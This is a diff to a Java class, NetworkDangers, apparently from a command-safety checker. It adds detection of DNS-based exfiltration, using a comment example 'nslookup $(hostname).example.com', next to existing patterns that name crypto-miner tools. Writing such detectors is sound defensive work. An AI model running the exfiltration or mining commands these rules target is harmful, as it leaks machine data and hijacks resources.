@@ -55,6 +55,7 @@ final class NetworkDangers {
     private static final Pattern MINER =
             Pattern.compile(
                     "(?i)stratum\\+(tcp|ssl)|xmrig|minerd|cpuminer|cgminer|nicehash|cryptonight");
+    private static final Pattern CARRIED = Pattern.compile("[`)]\"?\\.[\\w-]+\\.\\w");
     private static final Pattern SHELL_BEHIND = Pattern.compile("(?i)(EXEC|SYSTEM):.*");
 
     private NetworkDangers() {}
@@ -64,6 +65,7 @@ final class NetworkDangers {
         sent(one, all, found);
         copiedOut(one, found);
         asked(one, all, found);
+        askedByName(one, found);
         for (ScriptWord word : one.command().words()) {
             if (MINER.matcher(word.shown()).find() && !one.is("grep", "rg", "echo", "pgrep")) {
                 found.add(
@@ -176,6 +178,19 @@ final class NetworkDangers {
                 found.add(out(one));
                 return;
             }
+        }
+    }
+
+    /// `nslookup $(hostname).example.com`: what is asked for carries what a command printed.
+    private static void askedByName(JudgedCommand one, List<Danger> found) {
+        boolean carries =
+                one.is("dig", "host", "nslookup", "drill", "ping")
+                        && one.rest().stream()
+                                .anyMatch(word ->
+                                        !word.isKnown()
+                                                && CARRIED.matcher(word.text()).find());
+        if (carries) {
+            found.add(out(one));
         }
     }
 
